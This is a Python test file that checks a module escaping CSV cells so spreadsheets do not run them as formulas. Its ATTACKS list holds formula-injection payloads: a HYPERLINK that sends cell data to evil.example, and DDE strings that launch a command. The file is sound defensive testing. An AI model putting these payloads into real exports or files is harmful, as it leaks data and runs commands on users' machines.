"""CSV cells a spreadsheet will not run as formulas, and the import that gives the text back."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.spreadsheet import escape_cell, safe_writer, unescape_cell

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_looking_text_is_prefixed_and_comes_back(text):
    escaped = escape_cell(text)
    assert escaped == "'" + text
    assert unescape_cell(escaped) == text


def test_plain_text_is_left_alone():
    for text in ("发票怎么打印？", "", "a=b", " =1", "1-2", "'手写的引号"):
        assert escape_cell(text) == text or text.startswith("'")
        assert unescape_cell(text) == text
    assert escape_cell(None) == "" and escape_cell(3) == "3"


@given(st.text(alphabet=st.sampled_from("=+-@\t\r'a发 |"), max_size=6))
def test_every_text_round_trips(text):
    assert unescape_cell(escape_cell(text)) == text
    assert not escape_cell(text).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_safe_writer_escapes_every_cell():
    out = io.StringIO()
    writer = safe_writer(out, lineterminator="\n")
    writer.writerows([["id", "answer"], ["x", ATTACKS[0]]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["id", "answer"], ["x", "'" + ATTACKS[0]]]
